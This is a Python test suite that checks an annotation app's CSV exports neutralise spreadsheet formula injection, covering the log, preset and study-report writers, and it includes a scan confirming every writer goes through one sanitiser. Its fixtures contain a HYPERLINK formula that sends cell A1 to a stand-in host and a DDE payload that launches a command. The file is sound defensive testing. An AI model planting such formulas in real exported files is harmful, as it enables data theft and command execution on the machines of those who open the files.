"""Issue 32, hole 5: no CSV file the app writes holds a cell a spreadsheet would run.

Over HTTP: an annotator's reject reason `=HYPERLINK(...)` and a request id starting with "@" reach the
admin's log-csv export as text (a leading quote), while the JSON-lines export keeps the exact text
and negative numbers stay numbers. Every CSV writer in the code goes through exports.cells (a
listing test: a new writer that does not fails here).
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pandas as pd
import pytest

from exports.cells import FORMULA_START, spreadsheet_cell, spreadsheet_frame
from exports.log import write_csv
from exports.presets import preset_csv
from exports.step_study import study_report_csv
from importers.records import ItemRecord
from store import Store
from store.bulk import write_records
from tests.security.support import call_event, config, event_of, login, make_team, run_api, team_server

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"open")'
REQUEST = "@SUM(1+1)*cmd|' /C calc'!A0"
DATASET = "gate-csv"


def _plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _runnable(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_START) and not _plain_number(c)]


def _download(http, url: str, text: str) -> str:
    link = re.search(r'href=\\"(/stepgate/download/[^\\"]+)\\"', text)
    assert link, text[-500:]
    got = http.get(url + link.group(1), timeout=30)
    assert got.status_code == 200
    return got.content.decode("utf-8")


@pytest.mark.browser
def test_an_annotators_reason_reaches_the_log_csv_as_text(tmp_path: Path) -> None:
    db = tmp_path / "team.duckdb"
    make_team(db)
    with Store(db) as store, store.writing() as tx:
        record = ItemRecord(
            external_id="g-0", question="How many bars?", steps={"candidate": ["3 bars.", "So 3."]}
        )
        write_records(tx, DATASET, "quality_gate", [record], "crystal")
    with team_server(db) as server:
        ann = login(server.url, "ann")
        item = run_api(ann, server.url, "next_item", DATASET).json()["data"][0]
        label = {
            "verdict": "reject",
            "criteria": {"c1": True, "c2": True, "c3": False, "c4": True},
            "reason": HOSTILE,
        }
        saved = run_api(
            ann, server.url, "submit_label", item["item_id"], item["version_id"], label, REQUEST, 4.0
        )
        assert saved.status_code == 200 and saved.json()["data"][0]["saved"], saved.text[:300]
        lead = login(server.url, "lead")
        fn, _ = event_of(config(lead, server.url), "data-export-run")
        files = {}
        for fmt in ("log-csv", "log-jsonl"):
            status, text = call_event(lead, server.url, fn, [fmt, ""])
            assert status == 200
            files[fmt] = _download(lead, server.url, text)
    rows = list(csv.reader(io.StringIO(files["log-csv"])))
    cells = [cell for row in rows for cell in row]
    assert "'" + HOSTILE in cells and "'" + REQUEST in cells  # there, as text
    assert _runnable(cells) == []
    line = json.loads(files["log-jsonl"].splitlines()[0])
    assert line["label_reason"] == HOSTILE and line["request_id"] == REQUEST  # JSON lines: the exact text


def test_numbers_and_plain_text_are_left_as_they_are() -> None:
    frame = pd.DataFrame(
        {"label": [-1, 2], "kappa": [-0.5, 0.25], "note": ["-0.5", "- a list"], "who": ["ann", "+bob"]}
    )
    safe = spreadsheet_frame(frame)
    assert safe["label"].tolist() == [-1, 2] and safe["kappa"].tolist() == [-0.5, 0.25]
    assert safe["note"].tolist() == ["-0.5", "'- a list"] and safe["who"].tolist() == ["ann", "'+bob"]
    assert frame["who"].tolist() == ["ann", "+bob"]  # the caller's frame is not changed
    for start in FORMULA_START:
        assert spreadsheet_cell(start + "1+A1") == "'" + start + "1+A1"
    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(None) is None


def test_each_csv_writer_neutralises_text_cells(tmp_path: Path) -> None:
    log = pd.DataFrame(
        {
            "annotation_id": [1],
            "request_id": [REQUEST],
            "annotator": ["ann"],
            "payload": [json.dumps({"reason": HOSTILE, "earliest_error": -1})],
        }
    )
    write_csv(log, tmp_path / "log.csv")
    written = pd.read_csv(tmp_path / "log.csv", dtype=str)
    assert written.loc[0, "label_reason"] == "'" + HOSTILE and written.loc[0, "label_earliest_error"] == "-1"
    preset = pd.DataFrame({"kappa": [-0.5]}, index=[HOSTILE])
    assert _runnable([c for row in csv.reader(io.StringIO(preset_csv(preset))) for c in row]) == []
    assert "-0.5" in preset_csv(preset)

    class Report:  # what study_report_csv reads, with a hostile dataset name and encoder note
        dataset, encoder, note, pairs, labelled = HOSTILE, "+enc", "-note", 3, -1
        humans = type(
            "Humans",
            (),
            {"pairs": 3, "annotators": 2, "observed": 1.0, "fleiss_kappa": -0.2, "cohen_kappa": -0.1},
        )
        calibration = None
        table = sampling = models = pd.DataFrame()

    text = study_report_csv(Report())
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert _runnable(cells) == [] and "'" + HOSTILE in cells and "-0.2" in cells


WRITES_CSV = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|to_excel\(|xlsxwriter|openpyxl")


def test_every_csv_writer_goes_through_the_one_neutraliser() -> None:
    """Every module of the app that writes CSV (or XLSX) calls exports.cells; none writes past it."""
    writers = {}
    for path in sorted(ROOT.glob("*.py")) + sorted(
        p for d in ("exports", "services", "ui", "store", "qc", "tasks") for p in (ROOT / d).rglob("*.py")
    ):
        text = path.read_text(encoding="utf-8")
        if WRITES_CSV.search(text) and path.name != "cells.py":
            writers[str(path.relative_to(ROOT))] = "spreadsheet_" in text
    assert set(writers) == {
        "exports/log.py",
        "exports/presets.py",
        "exports/report.py",
        "exports/step_study.py",
    }
    assert all(writers.values()), writers
